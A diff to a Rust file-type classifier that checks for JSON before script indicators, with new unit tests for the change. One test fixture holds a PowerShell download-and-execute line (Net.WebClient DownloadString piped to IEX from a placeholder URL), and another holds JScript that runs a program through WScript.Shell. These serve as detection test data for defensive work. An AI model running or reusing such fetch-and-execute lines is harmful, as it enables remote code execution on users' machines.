@@ -177,6 +177,16 @@ impl ScriptMatcher {
         if !utf16 && super::mail::is_message(&text) {
             return known::EMAIL;
         }
+        let trimmed = text.trim_start_matches('\u{feff}').trim_start();
+        let cut = head.len() < data.len();
+        // JSON is data: words in its strings are no reason to call it a
+        // script, and it is told apart faster than the indicators are.
+        if (trimmed.starts_with('{') || trimmed.starts_with('['))
+            && looks_like_json(trimmed, cut)
+            && super::json::is_json(trimmed.as_bytes(), cut)
+        {
+            return known::JSON;
+        }
         // One pass: which distinct indicators occur.
         let mut seen = [false; INDICATORS.len()];
         // Prose without any of these characters holds no indicator worth
@@ -189,7 +199,6 @@ impl ScriptMatcher {
         if let Some(t) = script_type(&text, &seen) {
             return t;
         }
-        let trimmed = text.trim_start_matches('\u{feff}').trim_start();
         let starts = |p: &str| {
             trimmed
                 .get(..p.len())
@@ -202,9 +211,7 @@ impl ScriptMatcher {
         if starts("<?xml") || starts("<svg") {
             return known::XML;
         }
-        if (trimmed.starts_with('{') || trimmed.starts_with('['))
-            && looks_like_json(trimmed, head.len() < data.len())
-        {
+        if (trimmed.starts_with('{') || trimmed.starts_with('[')) && looks_like_json(trimmed, cut) {
             return known::JSON;
         }
         if utf16 {
@@ -639,6 +646,16 @@ mod tests {
             3. Run it with Start-Process and wait for it to finish.\n\
             4. If Invoke-Expression is blocked, ask IT; never use Net.WebClient.\n";
         assert_eq!(classify(t), known::TEXT);
+    }
+
+    #[test]
+    fn json_quoting_script_is_json_and_script_in_braces_is_not() {
+        let export = br#"{"messages": [{"from": "ann", "text": "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"}]}"#;
+        assert_eq!(classify(export), known::JSON);
+        let lines = b"{\"t\": \"var a = eval(b);\"}\n{\"t\": \"function (x) { return x; };\"}\n";
+        assert_eq!(classify(lines), known::JSON);
+        let js = b"{ var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\"); }";
+        assert_ne!(classify(js), known::JSON);
     }
 
     #[test]
